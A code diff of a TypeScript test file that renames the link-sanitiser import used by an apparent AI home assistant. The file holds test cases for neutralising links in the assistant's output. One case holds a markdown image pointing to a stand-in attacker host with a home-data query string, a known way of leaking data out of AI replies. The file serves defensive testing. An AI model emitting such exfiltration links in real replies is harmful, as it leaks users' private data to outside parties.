@@ -1,5 +1,5 @@
 import { assertEquals } from "@std/assert";
-import { createLinkFlow } from "../../../supabase/functions/ai-home-assistant/turn/neutralise_links.ts";
+import { createLinkSanitiser } from "../../../supabase/functions/ai-home-assistant/sanitise/link_sanitiser.ts";
 
 const cases: [name: string, text: string, shown: string][] = [
   ["a markdown image", "Done. ![leak](https://evil.example/x.png?home=1)", "Done. leak"],
@@ -21,7 +21,7 @@ const cases: [name: string, text: string, shown: string][] = [
 ];
 
 function neutralised(text: string): string {
-  const flow = createLinkFlow();
+  const flow = createLinkSanitiser();
   return flow.push(text) + flow.end();
 }
 
